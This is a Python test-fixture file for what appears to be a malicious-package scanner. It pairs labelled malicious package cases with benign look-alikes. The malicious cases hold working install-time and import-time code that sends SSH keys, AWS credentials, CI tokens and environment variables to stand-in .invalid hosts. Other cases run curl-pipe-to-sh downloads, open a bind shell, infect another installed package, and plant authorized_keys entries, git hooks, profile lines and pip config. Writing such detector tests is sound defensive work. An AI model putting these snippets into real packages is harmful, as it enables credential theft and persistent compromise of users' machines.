"""Ways data leaves or commands run that are not requests/urllib/subprocess: XML-RPC,
asyncio streams, FTP, SMTP, UDP, libc's system() through ctypes, and writes that make
code run later (into another installed package, a .pth in site-packages)."""

from __future__ import annotations

from techniques import Case


def _init(name: str, body: str) -> dict[str, str | bytes]:
    return {f"{name}/__init__.py": body}


CASES = [
    Case("XML-RPC call carrying the environment at import", "xmlrpcx", _init(
        "xmlrpcx", "import os, xmlrpc.client\n\n"
                   "xmlrpc.client.ServerProxy('https://rpc.x.invalid/').put(dict(os.environ))\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("asyncio stream writes the SSH key at import", "asyncsend", _init(
        "asyncsend",
        "import asyncio, os\n\n\nasync def _go():\n"
        "    r, w = await asyncio.open_connection('k.x.invalid', 443, ssl=True)\n"
        "    w.write(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"
        "    await w.drain()\n\n\n"
        "try:\n    asyncio.run(_go())\nexcept OSError:\n    pass\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("FTP upload of AWS credentials in setup.py", "ftpsteal", {
        "setup.py": (
            "import ftplib, os\nfrom setuptools import setup\n\n"
            "try:\n    ftp = ftplib.FTP('ftp.x.invalid', 'anonymous', 'a@b')\n"
            "    with open(os.path.expanduser('~/.aws/credentials'), 'rb') as fh:\n"
            "        ftp.storbinary('STOR c.txt', fh)\nexcept Exception:\n    pass\n"
            "setup(name='ftpsteal', version='1.0')\n"),
    }, "malicious", ("PV303",)),
    Case("SMTP mail of CI tokens at import", "smtpsteal", _init(
        "smtpsteal",
        "import os, smtplib\n\n"
        "body = 'GH=%s NPM=%s' % (os.environ.get('GITHUB_TOKEN'), os.environ.get('NPM_TOKEN'))\n"
        "try:\n    with smtplib.SMTP('mx.x.invalid', 25, timeout=3) as s:\n"
        "        s.sendmail('a@x.invalid', ['b@x.invalid'], body)\nexcept OSError:\n    pass\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("UDP datagram with host and user at install", "udpbeacon", {
        "setup.py": (
            "import getpass, socket\nfrom setuptools import setup\n\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            "s.sendto(('%s|%s' % (socket.gethostname(), getpass.getuser())).encode(), "
            "('u.x.invalid', 53))\n"
            "setup(name='udpbeacon', version='1.0')\n"),
    }, "malicious", ("PV304",)),
    Case("libc system() through ctypes runs a download-and-run", "libcsystem", _init(
        "libcsystem", "import ctypes, ctypes.util\n\n"
                      "libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
                      "libc.system(b'curl -s https://l.x.invalid/x.sh | sh')\n"),
        "malicious", ("PV302",), kind="wheel"),
    Case("setup.py appends downloaded code to another installed package", "infectpkg", {
        "setup.py": (
            "import os, sysconfig, urllib.request\nfrom setuptools import setup\n\n"
            "target = os.path.join(sysconfig.get_paths()['purelib'], 'requests', "
            "'__init__.py')\n"
            "if os.path.exists(target):\n"
            "    code = urllib.request.urlopen('https://i.x.invalid/s').read()\n"
            "    with open(target, 'ab') as fh:\n"
            "        fh.write(b'\\n' + code)\n"
            "setup(name='infectpkg', version='1.0')\n"),
    }, "malicious", ("PV401",)),
    Case("setup.py drops a .pth into site-packages with downloaded lines", "dropth", {
        "setup.py": (
            "import os, site, urllib.request\nfrom setuptools import setup\n\n"
            "target = os.path.join(site.getsitepackages()[0], 'zz-dropth.pth')\n"
            "with open(target, 'wb') as fh:\n"
            "    fh.write(urllib.request.urlopen('https://d.x.invalid/p').read())\n"
            "setup(name='dropth', version='1.0')\n"),
    }, "malicious", ("PV401",)),
    Case("raw socket send of the SSH key at import", "socksend", _init(
        "socksend", "import os, socket\n\ns = socket.socket()\ns.connect(('k.x.invalid', 443))\n"
                    "s.send(open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("urllib opener posting the environment", "openerpost", _init(
        "openerpost", "import os, urllib.request\n\nop = urllib.request.build_opener()\n"
                      "op.open('https://k.x.invalid/u', data=repr(dict(os.environ)).encode())\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("curl uploads the SSH key from a process call", "curlup", _init(
        "curlup", "import os, subprocess\n\nsubprocess.run(['curl', '-s', '-F', 'k=@' + "
                  "os.path.expanduser('~/.ssh/id_rsa'), 'https://k.x.invalid/u'])\n"),
        "malicious", ("PV303",), kind="wheel"),
    Case("nslookup of the host name through os.system", "nslookup", _init(
        "nslookup", "import os, socket\n\nos.system(f'nslookup {socket.gethostname()}"
                    ".x.invalid')\n"), "malicious", ("PV304",), kind="wheel"),
    Case("bind shell: TCP server at import runs received commands", "bindshell", _init(
        "bindshell",
        "import socketserver, subprocess, threading\n\n\n"
        "class H(socketserver.BaseRequestHandler):\n    def handle(self):\n"
        "        cmd = self.request.recv(1024)\n"
        "        self.request.sendall(subprocess.check_output(cmd, shell=True))\n\n\n"
        "_s = socketserver.TCPServer(('0.0.0.0', 47001), H)\n"
        "threading.Thread(target=_s.serve_forever, daemon=True).start()\n"),
        "malicious", ("PV325",), kind="wheel"),
    Case("setup.py points pip's config at another index", "pipconf", {
        "setup.py": ("import os\nfrom setuptools import setup\n\n"
                     "os.makedirs(os.path.expanduser('~/.config/pip'), exist_ok=True)\n"
                     "with open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as fh:\n"
                     "    fh.write('[global]\\nindex-url = https://pypi.x.invalid/simple\\n')\n"
                     "setup(name='pipconf', version='1.0')\n"),
    }, "malicious", ("PV401",)),
    Case("setup.py appends a key to authorized_keys", "authkeys", {
        "setup.py": ("import os\nfrom setuptools import setup\n\n"
                     "with open(os.path.expanduser('~/.ssh/authorized_keys'), 'a') as fh:\n"
                     "    fh.write('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIK a@x.invalid\\n')\n"
                     "setup(name='authkeys', version='1.0')\n"),
    }, "malicious", ("PV401",)),
    Case("setup.py plants a git hook that fetches and runs code", "githook", {
        "setup.py": ("import os\nfrom setuptools import setup\n\n"
                     "hook = os.path.join('.git', 'hooks', 'post-checkout')\n"
                     "if os.path.isdir(os.path.dirname(hook)):\n"
                     "    with open(hook, 'w') as fh:\n"
                     "        fh.write('#!/bin/sh\\ncurl -s https://g.x.invalid/h | sh\\n')\n"
                     "    os.chmod(hook, 0o755)\n"
                     "setup(name='githook', version='1.0')\n"),
    }, "malicious", ("PV401",)),
    Case("import-time code appends a download-and-run line to ~/.profile", "profilerc", _init(
        "profilerc",
        "import os\n\n"
        "with open(os.path.join(os.path.expanduser('~'), '.profile'), 'a') as fh:\n"
        "    fh.write('curl -s https://p.x.invalid/s | sh\\n')\n"),
        "malicious", ("PV401",), kind="wheel"),
    Case("socket send fetched from a list by a getattr-built name", "listsend", _init(
        "listsend",
        "import os, socket\n\n"
        "_ops = [getattr(socket.socket, 'send' + 'all')]\n"
        "_s = socket.create_connection(('k.x.invalid', 443))\n"
        "_ops[0](_s, open(os.path.expanduser('~/.ssh/id_rsa'), 'rb').read())\n"),
        "malicious", ("PV211",), kind="wheel"),
    Case("argv list built in a name, downloaded command appended after sh -c", "argvsh", _init(
        "argvsh",
        "import subprocess, urllib.request\n\n_cmd = ['sh', '-c']\n"
        "_cmd.append(urllib.request.urlopen('https://c.x.invalid/n').read().decode())\n"
        "subprocess.run(_cmd)\n"), "malicious", ("PV325",), kind="wheel"),
    # benign look-alikes
    Case("mail helper that sends what the user passes", "mailhelp", _init(
        "mailhelp", "import smtplib\nfrom email.message import EmailMessage\n\n\n"
                    "def send(host, sender, to, subject, text):\n"
                    "    msg = EmailMessage()\n    msg['From'], msg['To'] = sender, to\n"
                    "    msg['Subject'] = subject\n    msg.set_content(text)\n"
                    "    with smtplib.SMTP(host) as s:\n        s.send_message(msg)\n"),
        "benign", kind="wheel"),
    Case("XML-RPC client for the package index, user-called", "pypirpc", _init(
        "pypirpc", "import xmlrpc.client\n\n\n"
                   "def releases(name):\n"
                   "    proxy = xmlrpc.client.ServerProxy('https://pypi.org/pypi')\n"
                   "    return proxy.package_releases(name)\n"), "benign", kind="wheel"),
    Case("setup.py writing a path-only .pth into site-packages", "pathwriter", {
        "setup.py": (
            "import os, site, sysconfig\nfrom setuptools import setup\n\n"
            "here = os.path.abspath(os.path.dirname(__file__))\n"
            "with open(os.path.join(site.getsitepackages()[0], 'pathwriter.pth'), 'w') as fh:\n"
            "    fh.write(os.path.join(here, 'lib') + '\\n')\n"
            "setup(name='pathwriter', version='1.0', packages=['pathwriter'])\n"),
        "pathwriter/__init__.py": "",
    }, "benign"),
    Case("ctypes loading libc for getpid and a site-packages path for a .pth", "libcok", {
        "setup.py": (
            "import os, site\nfrom setuptools import setup\n\n"
            "setup(name='libcok', version='1.0', packages=['libcok'],\n"
            "      data_files=[('', ['libcok.pth'])])\n"),
        "libcok.pth": "libcok/vendor\n",
        "libcok/__init__.py": ("import ctypes, ctypes.util\n\n"
                               "_libc = ctypes.CDLL(ctypes.util.find_library('c'))\n"
                               "PID = _libc.getpid()\n"),
    }, "benign"),
    Case("setup.py downloads sources with curl in a child environment", "curlsrc", {
        "setup.py": ("import os, subprocess\nfrom setuptools import setup\n\n"
                     "subprocess.check_call(['curl', '-fsSL', '-o', 'src.tgz', "
                     "'https://example.org/src-1.0.tgz'], env=dict(os.environ, LC_ALL='C'))\n"
                     "setup(name='curlsrc', version='1.0')\n"),
    }, "benign"),
    Case("hook installer and pip-config reader run by the user", "hookinstall", _init(
        "hookinstall",
        "import configparser, os\n\n\n"
        "def install(repo='.'):\n    hook = os.path.join(repo, '.git', 'hooks', 'pre-commit')\n"
        "    with open(hook, 'w') as fh:\n        fh.write('#!/bin/sh\\nexec hookinstall run\\n')\n"
        "    os.chmod(hook, 0o755)\n\n\n"
        "def index_url():\n    cfg = configparser.ConfigParser()\n"
        "    cfg.read(os.path.expanduser('~/.config/pip/pip.conf'))\n"
        "    return cfg.get('global', 'index-url', fallback=None)\n\n\n"
        "def serve(port=8000):\n    import http.server\n"
        "    http.server.HTTPServer(('127.0.0.1', port), "
        "http.server.SimpleHTTPRequestHandler).serve_forever()\n"),
        "benign", kind="wheel"),
    Case("git clone of a URL an index API returned, argv built in a name", "cloner", _init(
        "cloner",
        "import json, subprocess, urllib.request\n\n\ndef clone(project, dest):\n"
        "    meta = json.load(urllib.request.urlopen("
        "'https://index.example.org/api/' + project))\n"
        "    cmd = ['git', 'clone', '--depth', '1']\n    cmd.append(meta['repo_url'])\n"
        "    cmd.append(dest)\n    subprocess.run(cmd, check=True)\n"), "benign", kind="wheel"),
]
